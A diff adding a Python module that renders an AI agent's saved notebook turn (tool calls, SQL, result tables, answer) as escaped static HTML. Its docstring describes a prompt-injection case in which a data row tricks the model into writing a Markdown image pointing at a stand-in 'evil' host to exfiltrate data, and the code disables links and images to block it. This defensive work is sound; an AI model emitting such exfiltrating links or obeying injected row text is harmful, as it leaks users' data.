@@ -1,0 +1,108 @@
+"""A turn as static HTML: the ``text/html`` of its saved output.
+
+Shown wherever widget state is not: a reopened notebook, GitHub, nbconvert. One
+``<details>`` per tool call (SQL highlighted, the first rows of the result, the error if any),
+the answer rendered from Markdown, and a usage line.
+
+Everything in it comes from the model or the data, so nothing in it may act on the reader's
+browser: all text is escaped; the answer's Markdown is rendered with raw HTML, links and
+images turned off (a model tricked by a row into writing ``![](https://evil/?q=<data>)`` must
+not make the notebook send that data anywhere); tables are built by pandas with escaping on.
+Only the first ``max_rows`` of a result are rendered, so a million-row frame costs what a
+twenty-row one does.
+"""
+
+from __future__ import annotations
+
+import html
+from functools import cache
+from typing import TYPE_CHECKING, Any
+
+from relay_nb.agent.loop import TurnResult
+from relay_nb.agent.tool_calls import ToolOutcome
+from relay_nb.notebook.render_text import _sql_of, _status, describe_usage
+
+if TYPE_CHECKING:
+    from markdown_it import MarkdownIt
+
+__all__ = ["HTML_PREVIEW_ROWS", "answer_html", "sql_html", "table_html", "turn_html"]
+
+HTML_PREVIEW_ROWS = 20
+_STYLE = (
+    "<style>.relay-turn{font-family:var(--jp-ui-font-family,sans-serif);font-size:13px}"
+    ".relay-turn details{margin:4px 0;border-left:3px solid #8aa;padding-left:8px}"
+    ".relay-turn .relay-error{color:#b00}.relay-turn .relay-usage{color:#666;margin-top:6px}"
+    ".relay-turn pre{margin:4px 0}.relay-turn table{font-size:12px}</style>"
+)
+
+
+def turn_html(turn: TurnResult, *, max_rows: int = HTML_PREVIEW_ROWS) -> str:
+    """The whole saved trace of ``turn`` as one HTML fragment."""
+    parts = [_STYLE, '<div class="relay-turn">']
+    parts.append(f'<div class="relay-question"><b>Q:</b> {html.escape(turn.question)}</div>')
+    for index, outcome in enumerate(turn.tool_results, 1):
+        parts.append(_tool_html(index, outcome, max_rows))
+    parts.append(f'<div class="relay-answer">{answer_html(turn.answer)}</div>')
+    if turn.finish_reason != "stop":
+        parts.append(f'<div class="relay-error">stopped: {html.escape(turn.finish_reason)}</div>')
+    for warning in turn.warnings:
+        parts.append(f'<div class="relay-usage">⚠ {html.escape(warning)}</div>')
+    calls = sum(1 for event in turn.events if event.type == "usage")
+    usage = describe_usage(turn.usage, turn.model, calls=calls)
+    parts.append(f'<div class="relay-usage">{html.escape(usage)}</div></div>')
+    return "".join(parts)
+
+
+def _tool_html(index: int, outcome: ToolOutcome, max_rows: int) -> str:
+    artifact = outcome.artifact
+    status = "error" if outcome.is_error else _status(artifact)
+    elapsed = f" · {outcome.elapsed_ms:.0f} ms" if outcome.elapsed_ms else ""
+    summary = f"[{index}] {html.escape(outcome.name)} · {html.escape(status)}{elapsed}"
+    body = []
+    sql = _sql_of(outcome)
+    if sql:
+        body.append(sql_html(sql))
+    if outcome.is_error:
+        body.append(f'<pre class="relay-error">{html.escape(outcome.content)}</pre>')
+    elif getattr(artifact, "df", None) is not None:
+        body.append(table_html(artifact.df, max_rows=max_rows))
+    else:
+        body.append(f"<pre>{html.escape(outcome.content)}</pre>")
+    opened = " open" if outcome.is_error else ""
+    return f"<details{opened}><summary>{summary}</summary>{''.join(body)}</details>"
+
+
+def table_html(frame: Any, *, max_rows: int = HTML_PREVIEW_ROWS) -> str:
+    """The first ``max_rows`` rows (pandas escapes every cell), and how many there are."""
+    shown = frame.head(max_rows)
+    table = shown.to_html(index=False, border=0, escape=True, max_cols=30)
+    total = len(frame)
+    if total > len(shown):
+        table += f"<div>first {len(shown):,} of {total:,} rows</div>"
+    return table
+
+
+def sql_html(sql: str) -> str:
+    """SQL highlighted by Pygments (inline styles, so it survives without a stylesheet)."""
+    from pygments import highlight
+    from pygments.formatters import HtmlFormatter
+    from pygments.lexers import SqlLexer
+
+    return highlight(sql.strip(), SqlLexer(), HtmlFormatter(noclasses=True, nowrap=False))
+
+
+def answer_html(markdown: str) -> str:
+    """The answer's Markdown as HTML: no raw HTML, no links, no images (see module docstring)."""
+    if not markdown.strip():
+        return "<i>(no answer)</i>"
+    return _markdown().render(markdown)
+
+
+@cache
+def _markdown() -> MarkdownIt:
+    from markdown_it import MarkdownIt
+
+    md = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable("table")
+    md.disable(["link", "image", "autolink"])
+    md.block.ruler.disable(["reference"])  # no link reference definitions either
+    return md
